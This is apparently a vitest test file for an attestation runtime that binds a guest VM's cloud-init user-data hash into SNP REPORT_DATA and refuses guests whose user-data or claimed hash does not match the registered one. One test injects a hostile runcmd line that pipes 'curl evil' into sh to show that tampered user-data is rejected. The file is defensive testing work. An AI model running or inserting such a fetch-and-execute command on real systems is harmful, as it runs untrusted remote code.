// Measured user-data without a VM: the REPORT_DATA binding v2, the agent taking its config from the
// user-data it read itself (cloud-init's cache: cloud-init-cache.test.ts), and a real runtime refusing a guest whose user-data differs from the registered hash,
// including hostile guests that lie about their hash or leave it out.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHash, randomBytes } from "node:crypto";
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "yaml";
import { reportDataFor } from "../../../runtime/attestation/binding.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { measuredConfig, readUserData, UserDataReadError } from "../../../runtime/guest/userdata.js";
import { runAgent } from "../../../runtime/guest/agent.js";
import { parseConfig } from "../../../runtime/guest/config.js";
import { memoryLogger } from "../../../runtime/guest/log.js";
import { newEphemeralKey } from "../../../runtime/guest/attest.js";
import { renderMeasuredUnit } from "../../../runtime/guest/boot-unit.js";
import {
  challengeNonce,
  failedChecks as failed,
  postAttest,
  simulatedSnpProvider,
  startEnclaiveletStack,
  GOOD_MEASUREMENT,
  type EnclaiveletStack,
} from "./stack.js";

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");

describe("REPORT_DATA binding v2", () => {
  const nonce = randomBytes(32);
  const spki = newEphemeralKey().spkiDer;
  it("binds the user-data hash: v1 ≠ v2, and another user-data gives another REPORT_DATA", () => {
    const a = Buffer.alloc(32, 1);
    const b = Buffer.alloc(32, 2);
    expect(reportDataFor(nonce, spki, a)).toHaveLength(64);
    expect(reportDataFor(nonce, spki, a).equals(reportDataFor(nonce, spki))).toBe(false);
    expect(reportDataFor(nonce, spki, a).equals(reportDataFor(nonce, spki, b))).toBe(false);
  });
  it("the nonce is length-prefixed: moving bytes between nonce and hash changes the result", () => {
    const h = Buffer.alloc(32, 9);
    const shifted = reportDataFor(
      Buffer.concat([nonce, h.subarray(0, 1)]),
      spki,
      Buffer.concat([h.subarray(1), Buffer.from([0])]),
    );
    expect(shifted.equals(reportDataFor(nonce, spki, h))).toBe(false);
    expect(() => reportDataFor(nonce, spki, Buffer.alloc(31))).toThrow(/32 bytes/);
  });
});

const INPUT = {
  platform: "qemu" as const,
  tee: "snp" as const,
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "web",
  agent: { kind: "image" as const },
  evidenceProvider: "virtio-psp" as const,
  provision: { volume: { device: "/dev/vdc", name: "bk-data", filesystem: "ext4" as const, mountpoint: "/data" } },
};

describe("the agent reads its user-data itself", () => {
  it("image delivery: the user-data carries only the config — no unit, no runcmd — and keeps certified host keys", () => {
    const ud = renderUserData(INPUT);
    const doc = parse(ud.text) as Record<string, unknown>;
    expect(doc.runcmd).toBeUndefined();
    expect(doc.ssh_deletekeys).toBe(false);
    expect((doc.write_files as { path: string }[]).map((w) => w.path)).toEqual(["/etc/buckypaper/enclaivelet.json"]);
    const m = measuredConfig(Buffer.from(ud.text));
    expect(m.sha256).toBe(sha256(ud.text));
    expect(m.config).toEqual(ud.agentConfig);
  });

  it("user-data without the agent's config, or with an encoded one, is a named error", () => {
    expect(() => measuredConfig(Buffer.from("#cloud-config\nruncmd: [[id]]\n"))).toThrow(
      /no write_files entry for \/etc\/buckypaper\/enclaivelet.json/,
    );
    expect(() =>
      measuredConfig(
        Buffer.from(
          "#cloud-config\nwrite_files:\n- path: /etc/buckypaper/enclaivelet.json\n  encoding: b64\n  content: e30=\n",
        ),
      ),
    ).toThrow(/only plain-text content/);
  });

  it("the boot unit runs before, and is required by, every cloud-init stage that runs user-data", () => {
    const u = renderMeasuredUnit("nocloud");
    expect(u).toMatch(/^Before=.*cloud-init\.service.*cloud-config\.service.*cloud-final\.service/m);
    expect(u).toMatch(/^RequiredBy=cloud-init\.service cloud-config\.service cloud-final\.service ssh\.service$/m);
    expect(u).toMatch(/^ExecStart=.* run --user-data nocloud$/m);
    // strictly after cloud-init-local has cached the user-data the agent hashes
    expect(u).toMatch(/^Requires=cloud-init-local\.service$/m);
    expect(u).toMatch(/^After=.*cloud-init-local\.service/m);
    expect(u).not.toMatch(/After=.*network-online\.target/); // would be a cycle: cloud-init.service is before it
  });

  // NoCloud/EC2/GCE: the agent no longer asks the seed or a metadata service a second time; it reads cloud-init's
  // cache (cloud-init-cache.test.ts, against the real cloud-init stages).
  it("a missing cloud-init cache is a named error, not an empty user-data", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "bk-noci-"));
    try {
      const cloudInit = { objPkl: path.join(dir, "obj.pkl"), runInstanceId: path.join(dir, ".instance-id") };
      await expect(readUserData("ec2", { cloudInit })).rejects.toThrow(UserDataReadError);
      await expect(readUserData("nocloud", { cloudInit })).rejects.toThrow(/\.instance-id: ENOENT/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("a runtime that registered the user-data hash", () => {
  let stack: EnclaiveletStack;
  let root: string;
  const registered = renderUserData({ ...INPUT, provision: undefined }).text;
  const registeredSha = sha256(registered);
  beforeAll(async () => {
    stack = await startEnclaiveletStack();
    await stack.admin("PUT", "nitride/workloads/measured", {
      platforms: ["snp"],
      reference_values: { snp_measurements: [GOOD_MEASUREMENT], user_data_sha256: registeredSha },
      secrets: { kv: ["secret/data/web/db"] },
    });
    root = await mkdtemp(path.join(tmpdir(), "bk-measured-"));
  });
  afterAll(async () => {
    await stack?.rt.close();
    await rm(root, { recursive: true, force: true });
  });

  const provider = () => simulatedSnpProvider(stack);
  const cfg = () =>
    parseConfig({
      runtimeUrl: stack.rt.url,
      runtimeCaSha256: stack.caSha256,
      workloadId: "measured",
      root,
      retry: { attempts: 1, initialDelayMs: 1, maxDelayMs: 1 },
      envFiles: [{ path: "/etc/app/env", vars: { DB_PASSWORD: "web/db#password" } }],
    });

  it("the registered user-data → accepted and provisioned", async () => {
    const out = await runAgent(cfg(), { provider: provider(), userDataSha256: registeredSha, log: memoryLogger() });
    expect(out, out.error).toMatchObject({ ok: true });
    expect(out.written).toContain("/etc/app/env");
  });

  it("changed user-data → refused with the reason, nothing written", async () => {
    const empty = await mkdtemp(path.join(tmpdir(), "bk-measured-refused-"));
    try {
      const injected = `${registered}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;
      const out = await runAgent(
        { ...cfg(), root: empty },
        { provider: provider(), userDataSha256: sha256(injected), log: memoryLogger() },
      );
      expect(out).toMatchObject({ ok: false, reason: "refused" });
      expect(out.error).toMatch(/nitride\.user-data: user-data SHA-256 [0-9a-f]{16}… differs from the registered/);
      expect(await readdir(empty)).toEqual([]);
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });

  // Hostile clients: the binding check uses the REGISTERED hash, whatever the guest claims.
  async function attestRaw(claim: string | undefined, boundHash: Buffer | undefined) {
    const challenge = await challengeNonce(stack, "measured");
    const eph = newEphemeralKey();
    const evidence = await provider().collect(
      reportDataFor(Buffer.from(challenge, "base64url"), eph.spkiDer, boundHash),
    );
    return postAttest(stack, {
      workload_id: "measured",
      nonce: challenge,
      evidence,
      ephemeral_public_key: eph.spkiDer.toString("base64"),
      ...(claim !== undefined ? { user_data_sha256: claim } : {}),
    });
  }

  it("hostile: claims the registered hash but bound another user-data into REPORT_DATA → refused (report-data)", async () => {
    const r = await attestRaw(registeredSha, Buffer.from(sha256("other user-data"), "hex"));
    expect(r.status).toBe(403);
    expect(failed(r.body)).toEqual(["policy.report-data"]);
  });
  it("hostile: leaves the hash out and binds v1 → refused (report-data and user-data)", async () => {
    const r = await attestRaw(undefined, undefined);
    expect(r.status).toBe(403);
    expect(failed(r.body).sort()).toEqual(["nitride.user-data", "policy.report-data"]);
  });
  it("control: the registered hash claimed and bound → accepted", async () => {
    const r = await attestRaw(registeredSha, Buffer.from(registeredSha, "hex"));
    expect(r.status).toBe(200);
  });
  it("a malformed registered hash is refused at registration, naming the field", async () => {
    await expect(
      stack.admin("PUT", "nitride/workloads/bad", {
        reference_values: { snp_measurements: [GOOD_MEASUREMENT], user_data_sha256: "xyz" },
      }),
    ).rejects.toThrow(/reference_values\.user_data_sha256: must be 64 hex digits/);
  });
});
